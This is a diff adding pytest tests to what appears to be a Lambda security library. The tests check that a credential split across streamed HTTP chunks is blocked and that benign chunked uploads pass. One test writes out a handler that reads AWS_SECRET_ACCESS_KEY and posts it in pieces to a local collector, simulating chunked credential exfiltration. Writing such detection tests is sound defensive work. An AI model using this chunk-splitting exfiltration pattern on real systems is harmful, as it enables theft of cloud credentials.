@@ -404,3 +404,30 @@ def test_a_gzip_compressed_base64_response_is_judged_decompressed(records) -> No
 
     assert benign_handler(apigw_v1_event(), LambdaContext()) == benign
     assert len(records.detections()) == 1
+
+
+@pytest.mark.parametrize("pieces", [2, 3, 7])
+def test_a_credential_split_across_streamed_chunks_is_blocked(pieces: int, collector: LocalServer, records) -> None:
+    secret = os.environ["AWS_SECRET_ACCESS_KEY"].encode()
+    size = -(-len(secret) // pieces)
+    chunks = [b'{"note": "hello", "k": "'] + [secret[i:i + size] for i in range(0, len(secret), size)] + [b'"}']
+
+    @protect(mode="block")
+    def handler(event, context):
+        requests.post(f"{collector.url}/c", data=iter(chunks), timeout=TIMEOUT)
+        return {"statusCode": 200}
+
+    assert handler(apigw_v1_event(), LambdaContext())["statusCode"] == 403
+    assert all(secret not in request["body"] for request in collector.requests)
+    assert [r["rule"] for r in records.detections()] == ["credential_exfiltration.outbound"]
+
+
+def test_benign_streamed_chunks_pass(collector: LocalServer, records) -> None:
+    chunks = [b"x" * 5000, b"chunk-2,", os.environ["AWS_ACCESS_KEY_ID"].encode(), b"\r\n3\r\n", b"end"]
+
+    @protect(mode="block")
+    def handler(event, context):
+        return {"statusCode": requests.post(f"{collector.url}/c", data=iter(chunks), timeout=TIMEOUT).status_code}
+
+    assert handler(apigw_v1_event(), LambdaContext())["statusCode"] == 200
+    assert len(collector.requests) == 1 and records.detections() == []
